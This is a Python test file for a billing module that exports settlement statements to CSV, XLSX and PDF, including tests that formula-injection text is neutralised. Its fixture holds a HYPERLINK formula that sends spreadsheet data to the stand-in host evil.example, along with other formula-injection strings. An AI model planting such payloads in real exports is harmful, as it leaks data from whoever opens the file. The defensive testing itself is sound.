"""A settlement statement as CSV, XLSX and PDF: each holds the statement's own numbers, exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from billing.settlement import exports
from billing.models.statements import SettlementStatement, StatementLine

HASH = "ab" * 32
UTC = dt.timezone.utc


@pytest.fixture()
def statement() -> SettlementStatement:
    """An unsaved statement: the exports read nothing but its fields and lines."""
    statement = SettlementStatement(
        number="ST-2026-01-0007", organization_id=7, exchange_id=8, currency="CNY",
        period="2026-01", period_start=dt.date(2026, 1, 1), period_end=dt.date(2026, 2, 1),
        cutoff=dt.datetime(2026, 2, 1, tzinfo=UTC), status="issued",
        opening_minor=1_000_050, activity_minor=123_401, closing_minor=1_123_451,
        totals={"sale": "1244.01", "refund": "-10.00"}, content_hash=HASH)
    statement.lines = [
        StatementLine(position=1, kind="sale", occurred_on=dt.date(2026, 1, 3),
                      ledger_transaction_id=1, order_number="MO-1", dataset_id=5,
                      description="医疗文本 package", gross_minor=130_000, amount_minor=124_401),
        StatementLine(position=2, kind="refund", occurred_on=dt.date(2026, 1, 9),
                      ledger_transaction_id=2, order_number="MO-1", dataset_id=5,
                      description="Refund, partly", gross_minor=None, amount_minor=-1_000),
    ]
    return statement


@pytest.fixture()
def parties() -> exports.StatementParties:
    return exports.StatementParties(
        participant=exports.Party("华东医疗数据有限公司", "91310000MA1FL0XX0X"),
        exchange=exports.Party("上海数据交易所"), platform=exports.Party("Marketplace Platform"),
        dataset_titles={5: "Clinical notes"})


def test_the_csv_parses_into_header_lines_and_totals(statement, parties):
    data = exports.statement_csv(statement, parties)
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so spreadsheets read it as UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header = {row[0]: row[1] for row in rows[:9]}
    assert header["参与方 / Participant"] == "华东医疗数据有限公司"
    assert header["结算期间 / Period"] == "2026-01"
    assert header["币种 / Currency"] == "CNY"
    assert header["状态 / Status"] == "已出具 / Issued"
    assert header["内容哈希 (SHA-256) / Content hash (SHA-256)"] == HASH
    columns = rows.index(["日期 / Date", "类型 / Kind", "订单 / Order", "数据集 / Dataset",
                          "说明 / Description", "总额 / Gross", "应付参与方金额 / Amount"])
    assert rows[columns + 1] == ["2026-01-03", "销售 / Sale", "MO-1", "5 Clinical notes",
                                 "医疗文本 package", "1300.00", "1244.01"]
    assert rows[columns + 2][5:] == ["", "-10.00"]
    totals = {row[0]: row[1] for row in rows[columns + 4:]}
    assert totals == {"期初余额 / Opening balance": "10000.50",
                      "本期发生额 / Activity": "1234.01", "期末余额 / Closing balance": "11234.51"}


def test_the_xlsx_opens_and_holds_the_statements_numbers(statement, parties):
    sheet = load_workbook(io.BytesIO(exports.statement_xlsx(statement, parties))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == ["结算单 / Settlement statement", "ST-2026-01-0007"] + [None] * 5
    assert rows[8][:2] == ["内容哈希 (SHA-256) / Content hash (SHA-256)", HASH]
    first = next(i for i, row in enumerate(rows) if row[0] == "2026-01-03")
    line_cells = list(sheet.iter_rows(min_row=first + 1, max_row=first + 2))
    amounts = [Decimal(str(row[6].value)) for row in line_cells]
    assert amounts == [Decimal(line.amount_minor) / 100 for line in statement.lines]
    assert Decimal(str(line_cells[0][5].value)) == Decimal("1300.00")
    assert line_cells[1][5].value is None
    for row in line_cells:
        assert isinstance(row[6].value, (int, float)) and row[6].number_format == "#,##0.00"
    totals = {row[0].value: row[1] for row in sheet.iter_rows(min_row=first + 4)
              if row[0].value}
    assert {k: Decimal(str(c.value)) for k, c in totals.items()} == {
        "期初余额 / Opening balance": Decimal("10000.50"),
        "本期发生额 / Activity": Decimal("1234.01"),
        "期末余额 / Closing balance": Decimal("11234.51")}
    assert all(c.number_format == "#,##0.00" for c in totals.values())


def test_the_pdf_names_the_parties_and_prints_the_hash(statement, parties):
    data = exports.statement_pdf(statement, parties)
    assert data.startswith(b"%PDF")
    assert HASH.encode() in data
    assert b"STSong-Light" in data
    assert b"11,234.51" in data and b"91310000MA1FL0XX0X" in data
    # Invariant: the same statement gives the same bytes.
    assert exports.statement_pdf(statement, parties) == data


def test_an_empty_statement_still_exports(statement, parties):
    statement.lines = []
    statement.totals = {}
    assert exports.statement_pdf(statement, parties).startswith(b"%PDF")
    rows = list(csv.reader(io.StringIO(
        exports.statement_csv(statement, parties).decode("utf-8-sig"))))
    assert rows[-3:] == [["期初余额 / Opening balance", "10000.50"],
                         ["本期发生额 / Activity", "1234.01"],
                         ["期末余额 / Closing balance", "11234.51"]]


def test_filenames_are_safe_in_a_header(statement):
    statement.number = 'ST "x"/1'
    assert exports.statement_filename(statement, "pdf") == "statement-ST--x--1.pdf"


# Hostile text -----------------------------------------------------------------------------------

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture()
def hostile(statement):
    """Names, a title, a description and a reference as someone typed them to attack the
    accountant who opens the file."""
    statement.lines[0].description = "ctl\u0001name\x00"
    statement.lines[0].order_number = "+1"
    statement.lines[1].description = "-2+3"
    parties = exports.StatementParties(
        participant=exports.Party(HOSTILE_NAME, "@SUM(A1)"),
        exchange=exports.Party("\tTAB\rCR"), platform=exports.Party("Marketplace Platform"),
        dataset_titles={5: "@SUM(A1:A9)"})
    return statement, parties


INERT = {"participant": "'" + HOSTILE_NAME, "registration": "'@SUM(A1)",
         "exchange": "'\tTAB\ufffdCR", "description": "ctl\ufffdname\ufffd", "order": "'+1",
         "dataset": "5 @SUM(A1:A9)", "refund": "'-2+3"}


def test_the_csv_writes_hostile_text_inert_and_amounts_as_numbers(hostile):
    statement, parties = hostile
    rows = list(csv.reader(io.StringIO(
        exports.statement_csv(statement, parties).decode("utf-8-sig"), newline="")))
    header = {row[0]: row[1] for row in rows[:9]}
    assert header["参与方 / Participant"] == INERT["participant"]
    assert header["统一社会信用代码 / Registration number"] == INERT["registration"]
    assert header["数据交易所 / Exchange"] == INERT["exchange"]
    start = next(i for i, row in enumerate(rows) if row and row[0] == "2026-01-03")
    sale, refund = rows[start], rows[start + 1]
    assert sale[2:5] == [INERT["order"], INERT["dataset"], INERT["description"]]
    assert refund[4:] == [INERT["refund"], "", "-10.00"]  # a negative amount, not a text


def test_the_xlsx_of_hostile_text_opens_and_reads_back_as_neutral_text(hostile):
    statement, parties = hostile
    sheet = load_workbook(io.BytesIO(exports.statement_xlsx(statement, parties))).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for text in INERT.values():
        assert cells[text].data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    start = next(row for row in sheet.iter_rows() if row[0].value == "2026-01-09")
    assert start[6].value == -10 and start[6].data_type == "n"


def test_the_pdf_of_hostile_text_is_still_written(hostile):
    statement, parties = hostile
    assert exports.statement_pdf(statement, parties).startswith(b"%PDF")
